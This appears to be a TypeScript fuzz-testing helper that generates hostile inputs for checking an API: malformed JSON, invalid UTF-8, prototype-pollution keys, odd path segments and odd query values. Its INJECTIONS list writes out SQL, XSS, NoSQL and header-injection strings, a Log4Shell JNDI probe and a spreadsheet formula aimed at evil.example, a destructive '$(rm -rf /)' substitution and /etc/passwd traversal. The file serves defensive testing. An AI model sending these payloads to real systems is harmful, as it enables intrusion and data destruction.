/**
 * Hostile inputs as fast-check arbitraries: JSON fragments of the wrong type (deep, huge,
 * prototype keys, numbers JSON.parse turns into Infinity), invalid UTF-8 bytes and lone
 * surrogates, injection strings, odd path segments and query values. Every body fragment is
 * built so that it can never be a valid value where it is put: a test may then demand a 4xx.
 */
import fc from 'fast-check';

export type JsonKind = 'string' | 'number' | 'boolean' | 'container';

const enc = new TextEncoder();
const bytes = (s: string) => enc.encode(s);
const concat = (...parts: Uint8Array[]) => Uint8Array.from(parts.flatMap((p) => [...p]));

export const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE responses; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, sent as written
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '$(rm -rf /)',
  '`id`',
  '=HYPERLINK("http://evil.example")',
  '../../../../etc/passwd',
  '{"$gt": ""}',
  'PK = :pk OR attribute_exists(SK)',
  '\r\nSet-Cookie: x=1',
];
export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype'];

/** Byte sequences no UTF-8 decoder may accept: stray continuation, overlong, CESU surrogate, truncated, 5-byte. */
const INVALID_UTF8 = [
  [0xff],
  [0xfe, 0xff],
  [0x80],
  [0xc0, 0x80],
  [0xed, 0xa0, 0x80],
  [0xe2, 0x82],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
];

const controlChars = fc.string({
  unit: fc.integer({ min: 0, max: 0x1f }).map((n) => String.fromCharCode(n)),
  minLength: 1,
  maxLength: 20,
});
const anyText = fc.oneof(fc.string({ unit: 'binary', maxLength: 60 }), fc.constantFrom(...INJECTIONS), controlChars);
const deepArray = fc.integer({ min: 2, max: 3000 }).map((n) => `${'['.repeat(n)}1${']'.repeat(n)}`);
const deepObject = fc.integer({ min: 2, max: 3000 }).map((n) => `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`);
const protoObject = fc
  .constantFrom(...PROTO_KEYS)
  .map((k) => `{"${k}":{"polluted":"yes","prototype":{"polluted":"yes"}}}`);
const wide = fc.integer({ min: 100, max: 20_000 }).map((n) => `[${Array.from({ length: n }, (_, i) => i).join(',')}]`);
const bigNumbers = fc.constantFrom('1e309', '-1e309', '1.7976931348623157e309', '123456789012345678901234567890e300');
/** Tokens JSON.parse refuses: the body becomes malformed. */
const notJson = fc.constantFrom(
  'NaN',
  'Infinity',
  '-Infinity',
  'undefined',
  '0x10',
  '01',
  '+1',
  '.5',
  "'single'",
  '"unterminated',
  '{',
  ']',
  '"\\x41"',
  '"\\u12"',
);
/** A string whose text is ill-formed: a lone surrogate escape or raw invalid bytes. */
export const illFormedString: fc.Arbitrary<Uint8Array> = fc.oneof(
  fc.constantFrom('\\ud800', '\\udfff', 'a\\udc00b', '\\ud83d', 'x\\ude00\\ud83d').map((s) => bytes(`"${s}"`)),
  fc.constantFrom(...INVALID_UTF8).map((b) => concat(bytes('"ab'), Uint8Array.from(b), bytes('cd"'))),
);

const isBoolean = (b: Uint8Array) => ['true', 'false'].includes(new TextDecoder().decode(b));
const asJson = (a: fc.Arbitrary<unknown>) => a.map((v) => bytes(JSON.stringify(v)));

/** A JSON fragment that is never a valid value of `kind`. */
export function wrongFor(kind: JsonKind): fc.Arbitrary<Uint8Array> {
  const strings = asJson(fc.oneof(anyText, fc.constantFrom('NaN', '1e309', '-0', 'true', 'null', '')));
  const numbers = fc.oneof(
    bigNumbers.map(bytes),
    asJson(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }))),
  );
  const other = fc.oneof(
    fc.constantFrom('null', 'true', 'false', '[]', '{}').map(bytes),
    deepArray.map(bytes),
    deepObject.map(bytes),
    protoObject.map(bytes),
    wide.map(bytes),
    asJson(fc.array(anyText, { maxLength: 5 })),
  );
  switch (kind) {
    case 'string':
      return fc.oneof(numbers, other, illFormedString, notJson.map(bytes));
    case 'number':
      return fc.oneof(strings, other, bigNumbers.map(bytes), notJson.map(bytes));
    case 'boolean':
      return fc.oneof(
        strings,
        numbers,
        other.filter((b) => !isBoolean(b)),
        notJson.map(bytes),
      );
    case 'container':
      return fc.oneof(
        strings,
        numbers,
        fc.constantFrom('null', 'true', 'false').map(bytes),
        illFormedString,
        notJson.map(bytes),
      );
  }
}

/** Where a value sits in a body, and what it is. */
export interface Slot {
  path: (string | number)[];
  kind: JsonKind;
}

export function slotsOf(value: unknown, path: (string | number)[] = []): Slot[] {
  if (Array.isArray(value)) return [{ path, kind: 'container' }, ...value.flatMap((v, i) => slotsOf(v, [...path, i]))];
  if (value && typeof value === 'object')
    return [{ path, kind: 'container' }, ...Object.entries(value).flatMap(([k, v]) => slotsOf(v, [...path, k]))];
  const kind = typeof value === 'string' ? 'string' : typeof value === 'number' ? 'number' : 'boolean';
  return [{ path, kind }];
}

const MARK = '\u0000hostile\u0000';

/** The valid body with the value at `path` replaced by the raw bytes of `fragment`. */
export function spliced(valid: unknown, path: (string | number)[], fragment: Uint8Array): Uint8Array {
  if (path.length === 0) return fragment;
  const copy = structuredClone(valid) as Record<string | number, unknown>;
  let at = copy;
  for (const p of path.slice(0, -1)) at = at[p] as Record<string | number, unknown>;
  at[path[path.length - 1] as string] = MARK;
  const [before, after] = JSON.stringify(copy).split(JSON.stringify(MARK)) as [string, string];
  return concat(bytes(before), fragment, bytes(after));
}

/** Prototype keys added in front of a body's own keys: they must neither pollute nor be stored. */
export const withProtoKeys = (body: Uint8Array, key: string) =>
  body[0] === 0x7b && body[1] !== 0x7d ? concat(bytes(`{"${key}":{"polluted":"yes"},`), body.subarray(1)) : body;

/** A path segment that names nothing: traversal, NUL, bad escapes, prototype names, injections, too long. */
export const oddSegment: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '..',
    '.',
    '%2e%2e',
    '%2E%2E%2F%2E%2E%2Fetc%2Fpasswd',
    '..%2F..%2F',
    '%00',
    'a%00b',
    '%ff',
    '%',
    '%zz',
    '%C0%AE%C0%AE',
    '%ED%A0%80',
    '__proto__',
    'constructor',
    'prototype',
    '%5F_proto__',
    '%20',
    '~',
    '*',
  ),
  fc.constantFrom(...INJECTIONS).map(encodeURIComponent),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }).map(encodeURIComponent),
  fc.integer({ min: 65, max: 6000 }).map((n) => 'a'.repeat(n)),
);

/** A query value: any text (ill-formed escapes included), numbers as strings, impossible dates. */
export const oddQueryValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '%ff',
    '%',
    '%00',
    '%ED%A0%80',
    '1e309',
    'NaN',
    '-0',
    'Infinity',
    '0000-00-00',
    '9999-12-31',
    '2026-02-30',
    '2026-13-01',
    '1970-01-01',
    '+275760-09-13',
    '[]',
    '{}',
  ),
  fc.string({ unit: 'grapheme', maxLength: 60 }).map(encodeURIComponent),
  fc.constantFrom(...INJECTIONS).map(encodeURIComponent),
  fc.integer({ min: 100, max: 5000 }).map((n) => '9'.repeat(n)),
);

/** Valid but unusual text: accents, emoji, right-to-left scripts, apostrophes, combining marks. */
export const UNUSUAL_TEXTS = [
  "L'accueil à l’Office de Tourisme était « très » agréable — merci !",
  'Ça vaut le détour 👍🏽 🇫🇷 👨‍👩‍👧‍👦',
  'مرحبا بكم في أفينيون، المدينة جميلة جدا',
  'שלום, העיר יפה מאוד',
  'Ελληνικά, русский, 日本語のテキスト, 한국어',
  'e\u0301te\u0301 (NFD) et été (NFC), ﬁ ligature, Ǆ',
  'Tab\tet retour\nà la ligne; "guillemets" \\ antislash',
  'Zero\u200Bwidth and bidi \u202Eoverride\u202C marks',
];
